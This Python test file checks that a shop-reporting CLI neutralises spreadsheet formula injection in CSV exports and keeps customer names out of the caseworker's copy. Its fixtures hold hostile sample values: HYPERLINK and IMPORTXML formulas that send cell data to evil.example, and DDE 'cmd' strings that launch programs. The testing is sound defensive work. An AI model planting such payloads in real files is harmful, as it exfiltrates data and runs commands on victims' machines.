"""Issue 11, end to end: text any family member can type — a customer's name, a lender,
every profile field, who prepared the report, the notes — goes in through the services
as a user would type it, `smallshop report --format csv` writes the file, and read back
no cell is a formula (a spreadsheet would run `=HYPERLINK(...)`, `+...`, `-...`, `@...`)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone

import pytest

from smallshop.cli import main
from smallshop.services import Services
from smallshop.storage.tinydb_store import open_store

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "business_name": '=HYPERLINK("http://evil.example/?x="&B2,"Open")',
    "owner_name": "+996 555 000 000",
    "location": "-2+3+cmd|' /C calc'!A0",
    "caseworker_name": "@SUM(1+1)",
    "case_id": "=1+1",
}
CUSTOMERS = ["=cmd|' /C notepad'!A1", "+Айгүл", "-Бакыт", "@Чолпон"]
LENDER = "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")"


def _cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def hostile_folder(tmp_path):
    folder = tmp_path / "data"
    clock = lambda: datetime(2026, 11, 20, 8, tzinfo=timezone.utc)  # noqa: E731
    store = open_store(folder, clock=clock, backups=False)
    services = Services(store, clock=clock)
    try:
        owner = services.settings.add_member({"name": "Гүлзат", "role": "owner"}, actor=None)
        services.settings.update_profile(HOSTILE, owner.id)
        for i, name in enumerate(CUSTOMERS):
            customer = services.customers.create({"name": name, "notes": "=1+1"}, owner.id)
            order = services.orders.create({"customer_id": customer.id, "order_date": "2026-11-02"},
                                           [{"description": "=2+2", "unit_price": str(1000 + i)}], owner.id,
                                           deposit={"amount": "100", "date": "2026-11-02"})
            if i % 2 == 0:  # half delivered and owing, half holding a deposit (an advance)
                for status in ("in_progress", "ready", "delivered"):
                    order = services.orders.change_status(order.id, status, order.audit.version, owner.id,
                                                          date(2026, 11, 10))
        services.debts.create({"lender": LENDER, "principal": "5000", "start_date": "2026-10-01",
                               "first_due_date": "2026-11-01", "instalment_count": "5", "purpose": "business"},
                              owner.id)
        assert services.settings.profile().business_name == HOSTILE["business_name"]  # stored as typed
    finally:
        store.close()
    return folder


def test_nothing_typed_becomes_a_formula_in_the_csv(hostile_folder, tmp_path):
    out = tmp_path / "report.csv"
    assert main(["report", "--data-dir", str(hostile_folder), "--month", "2026-11", "--format", "csv", "--lang",
                 "ru", "--prepared-by", "=HYPERLINK(\"x\")", "--notes", "+notes", "--with-names", "-o", str(out)]) == 0
    rows = _cells(out.read_bytes())  # the owner's own copy: customers' names are in it
    assert rows[0] == ["section", "key", "label", "value"]
    cells = [cell for row in rows for cell in row]
    bad = [c for c in cells if c.startswith(DANGEROUS) and not c.lstrip("-").replace(".", "", 1).isdigit()]
    assert bad == []
    values = {(r[0], r[1]): r[3] for r in rows[1:]}
    for key, text in HOSTILE.items():
        assert values[("header", key)] == "'" + text  # kept whole, only neutralised
    assert values[("header", "prepared_by")] == "'=HYPERLINK(\"x\")"
    assert values[("notes", "notes")] == "'+notes"
    names = {v for (section, key), v in values.items() if key.endswith(".customer")}
    assert names == {"'" + n for n in CUSTOMERS}  # every customer is listed: owing or with an advance
    assert values[("debts", "debt.1.lender")] == "'" + LENDER


def test_the_caseworkers_copy_names_no_customer(hostile_folder, tmp_path):
    """Without --with-names no customer's name is anywhere in the CSV, JSON or XLSX."""
    import io
    import zipfile

    for fmt in ("csv", "json", "xlsx"):
        out = tmp_path / f"report.{fmt}"
        assert main(["report", "--data-dir", str(hostile_folder), "--month", "2026-11", "--format", fmt,
                     "--lang", "ru", "-o", str(out)]) == 0
        data = out.read_bytes()
        if fmt == "xlsx":
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                data = b"".join(z.read(name) for name in z.namelist())
        text = data.decode("utf-8")
        for name in CUSTOMERS:
            bare = name.lstrip("=+-@")
            assert bare not in text and bare.replace('"', "&quot;") not in text, (fmt, name)
